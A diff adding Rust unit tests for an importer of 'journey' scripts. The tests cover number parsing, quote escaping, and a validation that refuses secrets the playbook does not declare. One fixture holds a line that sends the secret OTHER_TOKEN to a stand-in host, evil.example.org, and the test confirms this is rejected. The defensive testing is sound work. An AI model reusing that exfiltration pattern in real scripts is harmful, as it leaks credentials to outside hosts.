@@ -422,3 +422,102 @@ fn a_bad_prefix_is_a_usage_error() {
     let error = plan(&good(), &files(), &project(), &options(Some("9x"), &[])).unwrap_err();
     assert!(matches!(error, ImportError::Usage(_)), "{error:?}");
 }
+
+#[test]
+fn numbers_are_taken_only_as_a_journey_writes_them() {
+    let playbook = good();
+    for bad in [".5", "5.", "+3", "1e3", "inf", "1_000", "- 3"] {
+        let errors = fill(&playbook, &[format!("max_visits={bad}")]).unwrap_err();
+        assert!(errors[0].contains("is not a number"), "{bad}: {errors:?}");
+    }
+    for good in ["0.5", "-3", "12"] {
+        let values = fill(&playbook, &[format!("max_visits={good}")]).expect(good);
+        assert_eq!(values["max_visits"], ParamValue::Number(good.into()));
+    }
+}
+
+#[test]
+fn a_quote_cannot_go_into_a_triple_quoted_string() {
+    let journey = "stack Notes do\n  card Start do\n    text(\"\"\"Visit @global.playbook.clinic_name\"\"\")\n  end\nend\n";
+    let files = vec![TextFile {
+        path: "notes.journey".into(),
+        text: journey.into(),
+    }];
+    let error = plan(
+        &good(),
+        &files,
+        &project(),
+        &options(None, &["clinic_name=P\"", "api=https://a.example.org"]),
+    )
+    .unwrap_err();
+    let ImportError::Playbook(lines) = error else {
+        panic!("{error:?}")
+    };
+    assert!(
+        lines[0].starts_with("notes.journey:3:") && lines[0].contains("cannot hold a `\"`"),
+        "{lines:?}"
+    );
+    // Without a quote the value goes in as it is, and the journey parses.
+    let plan = plan(
+        &good(),
+        &files,
+        &project(),
+        &options(
+            None,
+            &["clinic_name=St Mary's @Home", "api=https://a.example.org"],
+        ),
+    )
+    .expect("a plan");
+    assert!(
+        file(&plan, "notes.journey").contains("\"\"\"Visit St Mary's @@Home\"\"\""),
+        "{}",
+        file(&plan, "notes.journey")
+    );
+}
+
+#[test]
+fn a_secret_the_playbook_does_not_declare_is_refused() {
+    let journey = "stack Leak do\n  card Start do\n    r = get(\"https://evil.example.org/?k=@(secret('OTHER_TOKEN'))\")\n    s = get(\"https://api.example.org/\", headers: [[\"Authorization\", secret(\"API_TOKEN\")]])\n    t = secret(contact.name)\n  end\nend\n";
+    let files = vec![TextFile {
+        path: "leak.journey".into(),
+        text: journey.into(),
+    }];
+    let error = plan(
+        &good(),
+        &files,
+        &project(),
+        &options(None, &["api=https://a.example.org"]),
+    )
+    .unwrap_err();
+    let ImportError::Playbook(lines) = error else {
+        panic!("{error:?}")
+    };
+    assert_eq!(lines.len(), 2, "{lines:?}");
+    assert!(
+        lines[0].starts_with("leak.journey:3:")
+            && lines[0]
+                .contains("reads secret `OTHER_TOKEN`, which playbook.toml does not declare"),
+        "{lines:?}"
+    );
+    assert!(
+        lines[1].starts_with("leak.journey:5:") && lines[1].contains("computed name"),
+        "{lines:?}"
+    );
+}
+
+#[test]
+fn a_journey_that_would_not_parse_as_written_is_not_written() {
+    let written = [TextFile {
+        path: "notes.journey".into(),
+        text: "stack Notes do\n  card Start do\n    text(\"\"\"Visit P\"\"\"\")\n  end\nend\n"
+            .into(),
+    }];
+    let Err(ImportError::Usage(lines)) = crate::import::check_written(&written) else {
+        panic!("a broken journey passed")
+    };
+    assert!(
+        lines[0].starts_with("notes.journey:3:")
+            && lines[0].contains("would not parse with the values given"),
+        "{lines:?}"
+    );
+}
